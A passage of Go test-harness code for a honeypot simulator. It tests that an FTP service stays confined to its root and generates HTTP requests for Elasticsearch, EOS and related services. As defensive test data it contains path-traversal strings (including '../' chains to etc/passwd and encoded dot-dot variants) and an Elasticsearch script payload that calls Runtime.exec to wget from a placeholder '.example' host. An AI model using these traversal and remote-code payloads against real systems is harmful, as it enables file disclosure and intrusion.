	c.Step = hub.step
	stubHub.calls = append(stubHub.calls, c)
	echo := stubHub.Echo
	rs := stubHub.ReadSize
	pre := stubHub.PreReadMs
	stubHub.mu.Unlock()
	if pre > 0 {
		time.Sleep(time.Duration(pre) * time.Millisecond)
	}
	if rs <= 0 {
		rs = 4096
	}
	if s.Reply != "" {
		conn.Write([]byte(s.Reply))
	}
	buf := make([]byte, rs)
	for {
		n, err := conn.Read(buf)
		if n > 0 {
			stubHub.mu.Lock()
			c.Data = append(c.Data, buf[:n]...)
			stubHub.mu.Unlock()
			if echo {
				conn.Write(buf[:n])
			}
			if echo && bytes.Contains(c.Data, []byte(stubCloseMarker)) {
				// the service ends the connection on its own
				stubHub.mu.Lock()
				c.ReadErr = "closed by the service"
				c.ClosedFirst = true
				stubHub.mu.Unlock()
				break
			}
		}
		if err != nil {
			stubHub.mu.Lock()
			c.ReadErr = err.Error()
			stubHub.mu.Unlock()
			break
		}
		if n == 0 {
			break // drained datagram connection
		}
	}
	stubHub.mu.Lock()
	c.Done = true
	stubHub.mu.Unlock()
	return nil
}

type stubDetService struct {
	stubService
}

func (s *stubDetService) CanHandle(payload []byte) bool {
	return bytes.HasPrefix(payload, []byte(s.Prefix))
}

func init() {
	services.Register("stub", func(options ...services.ServicerFunc) services.Servicer {
		s := &stubService{}
		for _, o := range options {
			o(s)
		}
		return s
	})
	services.Register("stubdet", func(options ...services.ServicerFunc) services.Servicer {
		s := &stubDetService{}
		for _, o := range options {
			o(s)
		}
		return s
	})
}
