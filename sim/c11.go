package htsim

import (
	"bytes"
	"crypto/sha256"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"htsim/simnet"
)

// C11 — FTP clients cannot reach outside the service's filesystem root.
//
// 1-3 logged-in sessions on one ftp service instance issue path commands with arguments over
// {a, b, .., ., '', /} (up to 5 components) and odd paths; transfers use passive data connections over
// the simulated transport (some are reset mid-transfer).  A sentinel tree with unique contents is
// planted beside the service root.  Oracle: the sentinel tree is byte-identical afterwards and gained no
// entries; no reply or transferred data contains sentinel names or contents; every PWD reply is a rooted
// path without dot-dot components.

func init() {
	engines["C11"] = &Engine{Gen: genC11, Run: runC11}
}

type c11Cmd struct {
	Verb  string `json:"verb"`
	Path  string `json:"path,omitempty"`
	Data  string `json:"data,omitempty"`  // upload content
	Xfer  bool   `json:"xfer,omitempty"`  // needs a passive data connection
	Rst   bool   `json:"rst,omitempty"`   // reset the data connection mid-transfer
	Plain bool   `json:"plain,omitempty"` // plain-text data connection (the service expects TLS on it: error path)
	// Active: active mode - the client listens and names its address in PORT (or EPRT), the service dials it;
	// the data then travels in plain text (the service wraps only passive connections in TLS)
	Active bool `json:"active,omitempty"`
}

var c11Comps = []string{"a", "b", "..", ".", "", "a", "..", "SENTINEL", "secret.txt"}

func c11Path(r *Rng) string {
	if r.Chance(0.06) {
		return r.Pick([]string{"....//....//", "../SENTINEL/secret.txt", "/../SENTINEL", "a/../../SENTINEL/secret.txt", "..\\SENTINEL", "/..", "//", "/a/../../..", strings.Repeat("../", 40) + "etc/passwd", "a/" + strings.Repeat("x", 300), ".. ", " ..", "%2e%2e/SENTINEL", "..;/SENTINEL", "~", "~root", "/./../SENTINEL/secret.txt", "..//SENTINEL//secret.txt"})
	}
	if r.Chance(0.08) {
		// names only the harness knows: the root's own directory name (siblings sharing it as a prefix) and
		// absolute host paths of files beside the root (placeholders are filled in at run time)
		return r.Pick([]string{"/../@ROOTNAME@-private/secret.txt", "../@ROOTNAME@-private/secret.txt", "/../@ROOTNAME@2/secret.txt", "/a/../../@ROOTNAME@.bak/secret.txt",
			"/../@ROOTNAME@-private", "../../@ROOTNAME@2", "@TMP@/ftp/SENTINEL/secret.txt", "@TMP@/ftp/SENTINEL", "@TMP@/secret.txt", "@ROOT@/../SENTINEL/secret.txt",
			"@TMP@/cwd/secret.txt", "secret.txt", "a/f1", "b/f2", "/../@ROOTNAME@/../@ROOTNAME@-private/secret.txt"})
	}
	n := r.Range(1, 5)
	var parts []string
	for i := 0; i < n; i++ {
		parts = append(parts, r.Pick(c11Comps))
	}
	p := strings.Join(parts, "/")
	if r.Chance(0.4) {
		p = "/" + p
	}
	if r.Chance(0.15) {
		p += "/"
	}
	return p
}

func genC11(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c11")
	sc := &Scenario{Engine: "c11", Params: map[string]interface{}{}}
	sc.Config = baseConfig + "\n[service.s]\ntype=\"ftp\"\nfs_base=\"@TMP@\"\n\n[[port]]\nport=\"tcp/21\"\nservices=[\"s\"]\n"
	ns := r.Range(1, 3)
	if r.Chance(0.5) {
		ns = 1
	}
	verbs := []string{"CWD", "CWD", "CDUP", "PWD", "PWD", "MKD", "RMD", "DELE", "RNFR", "STOR", "STOR", "APPE", "REST", "RETR", "LIST", "NLST", "MDTM", "SIZE", "XCWD", "XMKD", "XRMD", "XPWD", "STAT"}
	for s := 0; s < ns; s++ {
		a := Actor{Kind: "tcp", Name: fmt.Sprintf("f%d", s), Src: clientAddr(s), Dst: sensorIP + ":21"}
		a.Ops = append(a.Ops, SendOp([]byte("USER anonymous\r\n"), nil, ""), SendOp([]byte("PASS anonymous\r\n"), nil, ""))
		n := r.Range(1, 5)
		if r.Chance(0.2) {
			n = r.Range(6, 12)
		}
		if r.Chance(0.25) {
			// directed multi-step sequence around one target that also names something outside the root:
			// create the same path inside the root first (MKD chain + STOR), switch to append mode, write again,
			// then read / stat / rename / delete it
			target := r.Pick([]string{"@TMP@/ftp/SENTINEL/secret.txt", "@TMP@/secret.txt", "a/f1", "b/f2", "secret.txt", "/../@ROOTNAME@-private/secret.txt",
				"@TMP@/cwd/a/f1", "../SENTINEL/secret.txt", "/a/../../SENTINEL/secret.txt", "@TMP@/ftp/@ROOTNAME@2/secret.txt"})
			add := func(c c11Cmd) {
				ej, _ := json.Marshal(c)
				a.Ops = append(a.Ops, Op{K: "ftp", Exp: ej})
			}
			if r.Chance(0.3) {
				add(c11Cmd{Verb: "CWD", Path: c11Path(r)})
			}
			if strings.HasPrefix(target, "@TMP@") || r.Chance(0.5) {
				add(c11Cmd{Verb: "MKDCHAIN", Path: target})
			}
			add(c11Cmd{Verb: "STOR", Path: target, Data: "first-" + r.word(4, 20), Xfer: true})
			if r.Chance(0.5) {
				add(c11Cmd{Verb: "APPE"})
			} else {
				add(c11Cmd{Verb: "REST", Path: r.Pick([]string{"0", "3"})})
			}
			add(c11Cmd{Verb: "STOR", Path: target, Data: "second-" + r.word(4, 20), Xfer: true})
			for _, v := range []string{"RETR", "SIZE", "MDTM", "LIST", "RNFR", "DELE"} {
				if !r.Chance(0.4) {
					continue
				}
				add(c11Cmd{Verb: v, Path: target, Xfer: v == "RETR" || v == "LIST"})
				if v == "RNFR" {
					add(c11Cmd{Verb: "RNTO", Path: r.Pick([]string{"renamed", "@TMP@/ftp/SENTINEL/renamed", "../renamed"})})
				}
			}
			sc.Params["directed"] = true
			n = r.Range(0, 2)
		}
		for k := 0; k < n; k++ {
			v := r.Pick(verbs)
			c := c11Cmd{Verb: v}
			switch v {
			case "CDUP", "PWD", "XPWD":
			case "RNFR":
				c.Path = c11Path(r)
				ej, _ := json.Marshal(c)
				a.Ops = append(a.Ops, Op{K: "ftp", Exp: ej})
				c = c11Cmd{Verb: "RNTO", Path: c11Path(r)}
			case "APPE":
				// in this server APPE (like REST) only switches the next STOR to append mode
			case "REST":
				c.Path = r.Pick([]string{"0", "1", "5", "100000"})
			case "STOR":
				c.Path = c11Path(r)
				c.Data = "upload-" + r.word(4, 40)
				c.Xfer = true
				c.Rst = r.Chance(0.15)
				c.Plain = r.Chance(0.15)
				c.Active = r.Chance(0.25)
			case "RETR", "LIST", "NLST":
				c.Path = c11Path(r)
				if v != "RETR" && r.Chance(0.3) {
					c.Path = ""
				} else if v != "RETR" && r.Chance(0.2) {
					c.Path = r.Pick([]string{"-la", "-a", "-l", "-la /", "-R"}) // ls options where the path goes
				}
				c.Xfer = true
				c.Rst = r.Chance(0.1)
				c.Plain = r.Chance(0.15)
				c.Active = r.Chance(0.25)
			default:
				c.Path = c11Path(r)
			}
			ej, _ := json.Marshal(c)
			a.Ops = append(a.Ops, Op{K: "ftp", Exp: ej})
		}
		ej, _ := json.Marshal(c11Cmd{Verb: "PWD"})
		a.Ops = append(a.Ops, Op{K: "ftp", Exp: ej}, Op{K: "close"})
		sc.Actors = append(sc.Actors, a)
	}
	sc.Class = fmt.Sprintf("sessions=%d", ns)
	sc.Schedule = r.Schedule(80)
	sc.DrainMs = 35000
	return sc
}

const c11Secret = "TOP-SECRET-SENTINEL-CONTENT-7f3a9"

func snapshotTree(root string, skip string) map[string]string {
	out := map[string]string{}
	filepath.Walk(root, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		if skip != "" && (p == skip || strings.HasPrefix(p, skip+string(filepath.Separator))) {
			if info.IsDir() {
				return filepath.SkipDir
			}
			return nil
		}
		rel, _ := filepath.Rel(root, p)
		if info.IsDir() {
			out[rel+"/"] = "dir"
			return nil
		}
		data, _ := os.ReadFile(p)
		out[rel] = fmt.Sprintf("%x", sha256.Sum256(data))
		return nil
	})
	return out
}

var c11RunDirRe = regexp.MustCompile(`TestWorkerrun-\d+`)
var c11MdtmRe = regexp.MustCompile(`213 \d{14}`)
var pasvRe = regexp.MustCompile(`227 [^(]*\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)`)
var pwdRe = regexp.MustCompile(`(?m)^257 (.*?)\r?$`)

func runC11(t *testing.T, sc *Scenario) Result {
	res := okResult()
	var before, after map[string]string
	var leaked []string
	var pwds []string
	xfers, resets, stored, tlsRead, activeConns := 0, 0, 0, 0, 0
	var maskTmp, maskRoot string
	obs := RunScenario(t, sc, func(w *World) {
		var tmp, ftpRoot string
		w.PreBoot = func(dir string) { tmp = dir }
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		// the service created its root under <tmp>/ftp/<random>
		ents, _ := os.ReadDir(filepath.Join(tmp, "ftp"))
		for _, e := range ents {
			if e.IsDir() {
				ftpRoot = filepath.Join(tmp, "ftp", e.Name())
			}
		}
		if ftpRoot == "" {
			w.Obs.BootErr = "ftp root not found under " + tmp
			return
		}
		// known tree inside the root, sentinel tree beside it
		os.MkdirAll(filepath.Join(ftpRoot, "a", "b"), 0755)
		os.MkdirAll(filepath.Join(ftpRoot, "b"), 0755)
		os.WriteFile(filepath.Join(ftpRoot, "a", "f1"), []byte("inside-a-f1"), 0644)
		os.WriteFile(filepath.Join(ftpRoot, "b", "f2"), []byte("inside-b-f2"), 0644)
		os.MkdirAll(filepath.Join(tmp, "ftp", "SENTINEL", "sub"), 0755)
		os.WriteFile(filepath.Join(tmp, "ftp", "SENTINEL", "secret.txt"), []byte(c11Secret), 0644)
		os.WriteFile(filepath.Join(tmp, "ftp", "SENTINEL", "sub", "deep.txt"), []byte(c11Secret+"-deep"), 0644)
		os.WriteFile(filepath.Join(tmp, "secret.txt"), []byte(c11Secret+"-top"), 0644)
		os.WriteFile(filepath.Join(tmp, "ftp", "secret.txt"), []byte(c11Secret+"-mid"), 0644)
		// siblings whose names merely start with the root's name
		rootName := filepath.Base(ftpRoot)
		for _, sfx := range []string{"-private", "2", ".bak"} {
			os.MkdirAll(filepath.Join(tmp, "ftp", rootName+sfx), 0755)
			os.WriteFile(filepath.Join(tmp, "ftp", rootName+sfx, "secret.txt"), []byte(c11Secret+sfx), 0644)
		}
		// the process working directory holds files with the same relative names as the tree inside the root
		cwd := filepath.Join(tmp, "cwd")
		os.MkdirAll(filepath.Join(cwd, "a", "b"), 0755)
		os.MkdirAll(filepath.Join(cwd, "b"), 0755)
		os.WriteFile(filepath.Join(cwd, "a", "f1"), []byte(c11Secret+"-cwd-a-f1"), 0644)
		os.WriteFile(filepath.Join(cwd, "b", "f2"), []byte(c11Secret+"-cwd-b-f2"), 0644)
		os.WriteFile(filepath.Join(cwd, "secret.txt"), []byte(c11Secret+"-cwd"), 0644)
		if old, err := os.Getwd(); err == nil {
			if os.Chdir(cwd) == nil {
				defer os.Chdir(old)
			}
		}
		subst := strings.NewReplacer("@TMP@", tmp, "@ROOTNAME@", rootName, "@ROOT@", ftpRoot)
		maskTmp, maskRoot = tmp, ftpRoot
		before = snapshotTree(tmp, ftpRoot)
		// names of the host's own root directory: a listing that shows several of them shows a host directory
		hostRoot := map[string]bool{}
		if ents, err := os.ReadDir("/"); err == nil {
			for _, e := range ents {
				if len(e.Name()) >= 3 {
					hostRoot[e.Name()] = true
				}
			}
		}
		check := func(what string, b []byte) {
			if bytes.Contains(b, []byte("SENTINEL-CONTENT")) || bytes.Contains(b, []byte("deep.txt")) {
				leaked = append(leaked, fmt.Sprintf("%s: %q", what, short(string(b), 200)))
			}
			if strings.HasPrefix(what, "data of LIST") || strings.HasPrefix(what, "data of NLST") {
				n := 0
				for _, l := range strings.Split(string(b), "\n") {
					f := strings.Fields(strings.TrimSpace(l))
					if len(f) > 0 && hostRoot[f[len(f)-1]] {
						n++
					}
				}
				if n >= 3 {
					leaked = append(leaked, fmt.Sprintf("%s lists %d entries of the host's root directory: %q", what, n, short(string(b), 300)))
				}
			}
		}
		w.Custom = func(w *World, ai int, op Op) {
			ep := w.eps[ai]
			if ep == nil || op.K != "ftp" {
				return
			}
			var c c11Cmd
			json.Unmarshal(op.Exp, &c)
			c.Path = subst.Replace(c.Path)
			if c.Verb == "MKDCHAIN" {
				// MKD every directory prefix of the target
				dir := path.Dir(c.Path)
				var acc string
				for _, comp := range strings.Split(dir, "/") {
					if comp == "" {
						if acc == "" && strings.HasPrefix(dir, "/") {
							acc = "/"
						}
						continue
					}
					acc = path.Join(acc, comp)
					if strings.HasPrefix(dir, "/") && !strings.HasPrefix(acc, "/") {
						acc = "/" + acc
					}
					ep.PeerInject([]byte("MKD " + acc + "\r\n"))
					synctest.Wait()
					bb := ep.Take()
					w.Obs.Conns[ai].Recv = append(w.Obs.Conns[ai].Recv, bb...)
				}
				return
			}
			line := c.Verb
			if c.Path != "" {
				line += " " + c.Path
			}
			drain := func() []byte {
				synctest.Wait()
				b := ep.Take()
				co := &w.Obs.Conns[ai]
				co.Recv = append(co.Recv, b...)
				return b
			}
			if !c.Xfer {
				ep.PeerInject([]byte(line + "\r\n"))
				b := drain()
				check("reply to "+line, b)
				if c.Verb == "PWD" || c.Verb == "XPWD" {
					for _, m := range pwdRe.FindAllSubmatch(b, -1) {
						pwds = append(pwds, string(m[1]))
					}
				}
				return
			}
			xfers++
			if c.Active {
				// active transfer: listen on an address of the client's, name it, let the service dial in
				la := mustTCPAddr(w.Sc.Actors[ai].Src)
				la.Port += 3000 + xfers
				l, err := w.Net.ListenTCP(la, "ftp-client")
				if err != nil {
					return
				}
				defer l.Close()
				var dc net.Conn
				acc := make(chan struct{})
				go func() {
					defer close(acc)
					dc, _ = l.Accept()
				}()
				ip4 := la.IP.To4()
				if xfers%2 == 0 {
					ep.PeerInject([]byte(fmt.Sprintf("EPRT |1|%s|%d|\r\n", la.IP.String(), la.Port)))
				} else {
					ep.PeerInject([]byte(fmt.Sprintf("PORT %d,%d,%d,%d,%d,%d\r\n", ip4[0], ip4[1], ip4[2], ip4[3], la.Port/256, la.Port%256)))
				}
				b := drain()
				check("reply to PORT", b)
				if !bytes.HasPrefix(b, []byte("200")) {
					return
				}
				<-acc
				if dc == nil {
					return
				}
				activeConns++
				dc.SetDeadline(time.Now().Add(20 * time.Second))
				ep.PeerInject([]byte(line + "\r\n"))
				done := make(chan struct{})
				var got []byte
				go func() {
					defer close(done)
					if c.Verb == "STOR" {
						dc.Write([]byte(c.Data))
						dc.Close()
						return
					}
					got, _ = io.ReadAll(dc)
					dc.Close()
				}()
				<-done
				if c.Verb != "STOR" {
					check("data of "+line, got)
				}
				b = drain()
				check("reply after "+line, b)
				if c.Verb == "STOR" && bytes.Contains(b, []byte("226 ")) {
					stored++
				}
				return
			}
			// passive transfer
			ep.PeerInject([]byte("PASV\r\n"))
			b := drain()
			m := pasvRe.FindSubmatch(b)
			if m == nil {
				return
			}
			var p1, p2 int
			fmt.Sscanf(string(m[5]), "%d", &p1)
			fmt.Sscanf(string(m[6]), "%d", &p2)
			src := mustTCPAddr(w.Sc.Actors[ai].Src)
			src.Port += 1000 + xfers
			dst := mustTCPAddr(fmt.Sprintf("%s:%d", sensorIP, p1*256+p2))
			var dc *simnet.Endpoint
			dc, _ = w.Net.Connect(src, dst)
			synctest.Wait()
			ep.PeerInject([]byte(line + "\r\n"))
			b = drain()
			check("reply to "+line, b)
			if dc == nil {
				return
			}
			if !c.Plain {
				// the service wraps every passive data connection in TLS: a TLS client (inside the bubble) on
				// the data connection is what makes STOR/RETR/LIST really move file contents
				dc.SetDeadline(time.Now().Add(20 * time.Second))
				done := make(chan struct{})
				var got []byte
				go func() {
					defer close(done)
					tc := tls.Client(dc, &tls.Config{InsecureSkipVerify: true})
					if err := tc.Handshake(); err != nil {
						dc.Close()
						return
					}
					switch c.Verb {
					case "STOR":
						data := []byte(c.Data)
						if c.Rst {
							tc.Write(data[:len(data)/2])
							dc.Reset()
							return
						}
						tc.Write(data)
						tc.Close()
					default:
						if c.Rst {
							buf := make([]byte, 8)
							n, _ := tc.Read(buf)
							got = buf[:n]
							dc.Reset()
							return
						}
						got, _ = io.ReadAll(tc)
						tc.Close()
					}
				}()
				<-done
				if c.Rst {
					resets++
				}
				if c.Verb != "STOR" {
					check("data of "+line, got)
					if len(got) > 0 {
						tlsRead++
					}
				}
				b = drain()
				check("reply after "+line, b)
				if c.Verb == "STOR" && bytes.Contains(b, []byte("226 ")) {
					stored++
				}
				return
			}
			switch c.Verb {
			case "STOR":
				data := []byte(c.Data)
				if c.Rst {
					dc.PeerInject(data[:len(data)/2])
					synctest.Wait()
					dc.Reset()
					resets++
				} else {
					dc.PeerInject(data)
					synctest.Wait()
					dc.Close()
				}
			default:
				synctest.Wait()
				got := dc.Take()
				check("data of "+line, got)
				if c.Rst {
					dc.Reset()
					resets++
				} else {
					dc.Close()
				}
			}
			b = drain()
			check("reply after "+line, b)
		}
		w.Play()
		w.Drain()
		for i := range w.Obs.Conns {
			check("transcript", w.Obs.Conns[i].Recv)
		}
		after = snapshotTree(tmp, ftpRoot)
		// error replies quote host paths: mask them so that traces are comparable between runs
		for i := range w.Obs.Conns {
			b := bytes.ReplaceAll(w.Obs.Conns[i].Recv, []byte(ftpRoot), []byte("@ROOT@"))
			b = bytes.ReplaceAll(b, []byte(tmp), []byte("@TMP@"))
			b = c11RunDirRe.ReplaceAll(b, []byte("TestWorkerrun-@"))
			// MDTM reports the host file's modification time (real clock of the real temp dir)
			w.Obs.Conns[i].Recv = c11MdtmRe.ReplaceAll(b, []byte("213 @MTIME@"))
		}
	})
	// commands may quote host paths (absolute targets) and the random root name: mask them in the events too
	if maskTmp != "" {
		rep := strings.NewReplacer(maskRoot, "@ROOT@", maskTmp, "@TMP@", filepath.Base(maskRoot), "@ROOTNAME@")
		for _, e := range obs.Events {
			for k, v := range e.M {
				if sv, ok := v.(string); ok && strings.Contains(sv, filepath.Base(maskRoot)) || ok && strings.Contains(sv, maskTmp) {
					e.M[k] = rep.Replace(sv)
				}
				if sv, ok := e.M[k].(string); ok && strings.Contains(sv, "TestWorkerrun-") {
					e.M[k] = c11RunDirRe.ReplaceAllString(sv, "TestWorkerrun-@")
				}
			}
		}
	}
	res.Digest = traceDigest(obs, map[string]bool{"ftp.sessionid": true})
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = true
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	res.probe("transfers", xfers)
	res.probe("uploads-completed", stored)
	res.probe("downloads-with-data", tlsRead)
	res.probe("active-mode-data-connections", activeConns)
	res.fault("data-connection-reset", resets)
	if len(leaked) > 0 {
		res.Violate("content-outside-root-disclosed", "ftp", leaked[0])
		return res
	}
	var keys []string
	for k := range before {
		keys = append(keys, k)
	}
	for k := range after {
		if _, ok := before[k]; !ok {
			keys = append(keys, k)
		}
	}
	sort.Strings(keys)
	for _, k := range keys {
		b, okb := before[k]
		a, oka := after[k]
		switch {
		case okb && !oka:
			res.Violate("file-outside-root-removed", "ftp", fmt.Sprintf("%s existed beside the root before the sessions and is gone", k))
			return res
		case !okb && oka:
			res.Violate("file-outside-root-created", "ftp", fmt.Sprintf("%s was created outside the service root", k))
			return res
		case a != b:
			res.Violate("file-outside-root-modified", "ftp", fmt.Sprintf("%s beside the root was modified", k))
			return res
		}
	}
	for _, p := range pwds {
		dotdot := false
		for _, comp := range strings.Split(p, "/") {
			if comp == ".." { // (a directory may legitimately be NAMED "..\\x" or "..;": only a dot-dot component leaves)
				dotdot = true
			}
		}
		if !strings.HasPrefix(p, "/") || path.Clean(p) != strings.TrimRight(p, "/") && p != "/" || dotdot {
			res.Violate("pwd-outside-root", "ftp", fmt.Sprintf("PWD reported %q", p))
			return res
		}
	}
	res.probe("pwd-replies", len(pwds))
	return res
}
