package htsim

import (
	"encoding/binary"
	"fmt"
	"strconv"
	"strings"
)

// Protocol descriptions for the honeytrap services that speak HTTP and serve exactly one request
// per connection: elasticsearch, eos, ethereum, docker, cwmp, ipp.
//
// Every expectation below is taken from the event.New(...) call of the service:
//   elasticsearch  http.method http.proto http.host http.url payload(+payload-length) http.header.*
//   eos            http.user-agent http.method http.proto http.host http.url eos.method payload http.header.*
//   ethereum       type http.user-agent http.method http.proto http.host http.url ethereum.id
//                  ethereum.method ethereum.jsonrpc payload http.header.*
//   docker         http.method http.proto http.host http.url payload(+payload-length) http.header.* http.cookie.*
//   cwmp           http.method http.proto http.host http.url http.body cwmp.method cwmp.argumentsXML http.header.*
//                  (only for POST requests with a non-empty body)
//   ipp            http.url ipp.uri ipp.user ipp.job-name ipp.data
//                  (only for POST with Content-Type: application/ipp)

func init() {
	registerProto(&proto{Name: "elasticsearch", Port: 9200, OneShot: true, Gen: genElasticsearch,
		Cfg: "name=\"node-1\"\ncluster_name=\"escluster\"\ncluster_uuid=\"7hWQ2k0gRtSZJ5sV1mYw3A\""})
	registerProto(&proto{Name: "eos", Port: 8888, OneShot: true, Gen: genEOS})
	registerProto(&proto{Name: "ethereum", Port: 8545, OneShot: true, Gen: genEthereum})
	registerProto(&proto{Name: "docker", Port: 2375, OneShot: true, Gen: genDocker})
	registerProto(&proto{Name: "cwmp", Port: 7547, OneShot: true, Gen: genCWMP})
	registerProto(&proto{Name: "ipp", Port: 631, OneShot: true, Gen: genIPP})
}

// ---------------------------------------------------------------------------------------------
// a small HTTP/1.x request builder

type webReq struct {
	method  string
	target  string
	proto   string // "HTTP/1.1" | "HTTP/1.0"
	host    string
	hdr     [][2]string // extra headers in sending order (names unique within a request)
	body    string
	hasBody bool // send a Content-Length (or chunked framing) even if body is empty
	chunked bool // Transfer-Encoding: chunked (HTTP/1.1 only)
	chunks  []int
}

func (q *webReq) add(name, value string) { q.hdr = append(q.hdr, [2]string{name, value}) }

func (q *webReq) bytes() []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s %s\r\n", q.method, q.target, q.proto)
	if q.host != "" {
		fmt.Fprintf(&b, "Host: %s\r\n", q.host)
	}
	for _, h := range q.hdr {
		fmt.Fprintf(&b, "%s: %s\r\n", h[0], h[1])
	}
	switch {
	case q.chunked:
		b.WriteString("Transfer-Encoding: chunked\r\n\r\n")
		rest := q.body
		for _, n := range q.chunks {
			if n <= 0 || n > len(rest) {
				continue
			}
			fmt.Fprintf(&b, "%x\r\n%s\r\n", n, rest[:n])
			rest = rest[n:]
		}
		if len(rest) > 0 {
			fmt.Fprintf(&b, "%x\r\n%s\r\n", len(rest), rest)
		}
		b.WriteString("0\r\n\r\n")
	case q.hasBody || len(q.body) > 0:
		fmt.Fprintf(&b, "Content-Length: %d\r\n\r\n%s", len(q.body), q.body)
	default:
		b.WriteString("\r\n")
	}
	return []byte(b.String())
}

// common draws protocol version, host and a few attributable extra headers; the decoded values go
// into more (http.proto, http.host, http.header.<lower-case name> rendered as a JSON list).
func (q *webReq) common(r *Rng, tag string, port int, more map[string]string) {
	q.proto = "HTTP/1.1"
	if r.Chance(0.15) {
		q.proto = "HTTP/1.0"
	}
	switch r.Intn(3) {
	case 0:
		q.host = tag + ".example"
	case 1:
		q.host = fmt.Sprintf("%s.example:%d", tag, port)
	default:
		q.host = fmt.Sprintf("%s:%d", sensorIP, port)
	}
	more["http.proto"] = q.proto
	more["http.host"] = q.host
	for k, n := 0, r.Intn(3); k < n; k++ {
		name := fmt.Sprintf("X-%s%d", r.word(1, 5), k)
		val := r.word(1, 12)
		q.add(name, val)
		more["http.header."+strings.ToLower(name)] = jsonList(val)
	}
}

// maybeChunk switches the request to chunked transfer encoding (only meaningful for services that
// read the whole body).
func (q *webReq) maybeChunk(r *Rng) {
	if q.proto != "HTTP/1.1" || len(q.body) == 0 || !r.Chance(0.25) {
		return
	}
	q.chunked = true
	rest := len(q.body)
	for rest > 0 && len(q.chunks) < 6 {
		n := r.Range(1, rest)
		q.chunks = append(q.chunks, n)
		rest -= n
	}
}

func jsonList(vals ...string) string {
	var b strings.Builder
	b.WriteByte('[')
	for i, v := range vals {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(strconv.Quote(v)) // values are plain [a-z0-9./=;-] : identical to JSON quoting
	}
	b.WriteByte(']')
	return b.String()
}

func setPayload(more map[string]string, body string) {
	more["payload"] = body
	more["payload-length"] = strconv.Itoa(len(body))
}

// ---------------------------------------------------------------------------------------------
// elasticsearch

func genElasticsearch(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	for i := 0; i < n; i++ {
		u := fmt.Sprintf("%s%d", tag, i)
		more := map[string]string{}
		q := &webReq{}
		q.common(r, tag, 9200, more)
		switch r.Intn(8) {
		case 0:
			q.method, q.target = "GET", "/?pretty&t="+u
		case 1:
			q.method, q.target = "GET", "/_cat/indices?v&t="+u
		case 2:
			q.method, q.target = r.Pick([]string{"GET", "HEAD", "DELETE"}), "/"+u+r.Pick([]string{"", "/_mapping", "/_settings", "/doc/1"})
		case 3:
			q.method, q.target = "GET", "/_nodes/"+u+"/stats?human=true"
		case 4:
			q.method, q.target = "GET", "/"+u+"/_search?q=user:"+r.word(1, 8)+"&size="+strconv.Itoa(r.Intn(100))
		case 5:
			q.method, q.target = "POST", "/"+u+"/_search?pretty"
			q.add("Content-Type", "application/json")
			more["http.header.content-type"] = jsonList("application/json")
			if r.Chance(0.5) {
				q.body = `{"query":{"match":{"` + r.word(1, 8) + `":"` + r.word(0, 40) + `"}},"size":` + strconv.Itoa(r.Intn(1000)) + `}`
			} else {
				q.body = `{"size":1,"script_fields":{"` + r.word(1, 6) + `":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"` +
					"wget http://" + r.word(3, 10) + ".example/" + r.word(1, 200) + `\").getText()"}}}`
			}
		case 6:
			q.method, q.target = r.Pick([]string{"PUT", "POST"}), "/"+u+"/doc/"+strconv.Itoa(r.Intn(1000))
			q.add("Content-Type", "application/json")
			more["http.header.content-type"] = jsonList("application/json")
			var fields []string
			for k, m := 0, r.Range(1, 12); k < m; k++ {
				fields = append(fields, fmt.Sprintf("%q:%q", "f"+strconv.Itoa(k), r.word(0, 60)))
			}
			q.body = "{" + strings.Join(fields, ",") + "}"
		default:
			q.method, q.target = "POST", "/_bulk?t="+u
			q.add("Content-Type", "application/x-ndjson")
			more["http.header.content-type"] = jsonList("application/x-ndjson")
			var b strings.Builder
			for k, m := 0, r.Range(1, 6); k < m; k++ {
				fmt.Fprintf(&b, "{\"index\":{\"_index\":%q,\"_id\":\"%d\"}}\n{\"v\":%q}\n", u, k, r.word(0, 50))
			}
			q.body = b.String()
		}
		// the service records (up to) the first 1024 bytes of the body: keep bodies below that
		if len(q.body) > 1000 {
			q.body = q.body[:1000]
		}
		more["http.method"] = q.method
		setPayload(more, q.body)
		out = append(out, pcmd{Data: q.bytes(), Want: []wantEv{{Field: "http.url", Value: q.target, More: more}}, Note: q.method + " " + q.target})
	}
	return out
}

// ---------------------------------------------------------------------------------------------
// eos

func genEOS(r *Rng, tag string, n int) []pcmd {
	var out []pcmd
	paths := []string{"/v1/wallet/list_keys", "/v1/wallet/list_wallets", "/v1/wallet/unlock", "/v1/wallet/open", "/v1/chain/get_info",
		"/v1/chain/get_account", "/v1/chain/get_block", "/v1/history/get_transaction", "/v1/wallet/sign_transaction"}
	for i := 0; i < n; i++ {
		u := fmt.Sprintf("%s%d", tag, i)
		more := map[string]string{}
		q := &webReq{}
		q.common(r, tag, 8888, more)
		path := r.Pick(paths)
		if r.Chance(0.3) {
			path = "/v1/" + u + "/" + r.word(1, 10)
			q.target = path
		} else {
			q.target = path + "?" + r.Pick([]string{"t=", "id=", "_="}) + u
		}
		ua := ""
		if r.Chance(0.6) {
			ua = r.Pick([]string{"curl/7.58.0", "python-requests/2.18.4", "Go-http-client/1.1", "eosjs/" + r.word(1, 6)})
			q.add("User-Agent", ua)
			more["http.header.user-agent"] = jsonList(ua)
		}
		if r.Chance(0.3) {
			q.method = "GET"
		} else {
			q.method = "POST"
			q.add("Content-Type", "application/json")
			more["http.header.content-type"] = jsonList("application/json")
			switch r.Intn(4) {
			case 0:
				q.body = `["default","PW5` + r.word(10, 50) + `"]`
			case 1:
				q.body = `{"account_name":"` + r.word(1, 12) + `"}`
			case 2:
				q.body = `{"block_num_or_id":` + strconv.Itoa(r.Intn(1000000)) + `}`
			default:
				q.body = `{"id":"` + r.word(64, 64) + `","data":"` + r.word(0, 1500) + `"}`
			}
			q.hasBody = true
